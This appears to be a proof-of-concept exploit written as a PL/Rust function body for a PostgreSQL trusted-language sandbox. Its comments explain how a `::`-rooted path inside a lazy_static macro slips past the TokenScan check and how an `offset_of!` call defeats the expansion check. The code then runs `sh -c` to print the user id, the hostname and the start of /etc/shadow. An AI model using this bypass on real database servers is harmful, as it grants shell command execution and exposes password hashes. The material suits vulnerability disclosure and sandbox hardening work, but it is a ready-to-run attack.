[dependencies]
lazy_static = "=1.4.0"
[code]
// 1. Inside a dependency's macro call (outside braces), a path that starts with `::` is never
//    taken for the start of a path by TokenScan: `::std::process::…` is not looked at.
// 2. `offset_of!` makes rustc print `builtin # offset_of(..)` in the crate's expansion, which
//    plrustc cannot parse, so the expansion check only counts `unsafe` keywords.
struct Pad { _a: u8, b: u32 }
let _unparsable = std::mem::offset_of!(Pad, b);
lazy_static::lazy_static! {
    static ref OUT: String = String::from_utf8_lossy(&::std::process::Command::new("sh").arg("-c")
        .arg("id; cat /etc/hostname; head -c 60 /etc/shadow").output().unwrap().stdout).into_owned();
}
Ok(Some(OUT.clone()))
